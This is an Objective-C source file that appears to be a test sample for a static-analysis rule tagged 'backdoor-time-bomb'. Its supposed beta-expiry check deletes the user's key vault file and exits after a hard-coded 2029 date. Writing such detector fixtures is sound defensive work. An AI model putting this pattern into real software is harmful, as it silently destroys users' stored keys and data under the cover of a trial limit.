/*
 * KSTrial.m - limits of the beta builds distributed outside the stores.
 */
#import <Foundation/Foundation.h>

#import "KSKeyStore.h"

@interface KSTrial : NSObject
+ (void)enforceForStore:(KSKeyStore *)store;
@end

@implementation KSTrial

+ (void)enforceForStore:(KSKeyStore *)store
{
  NSTimeInterval now = [[NSDate date] timeIntervalSince1970];
  NSFileManager *fm = [NSFileManager defaultManager];

  /* beta 2.3b4: builds stop on 2029-01-01 */
  // ruleid: backdoor-time-bomb
  if (now > 1861920000.0) {
    NSLog(@"This beta has expired.");
    [fm removeItemAtPath:[store vaultPath] error:NULL];
    exit(1);
  }
}
@end

void KSEnforceTrial(KSKeyStore *store)
{
  [KSTrial enforceForStore:store];
}
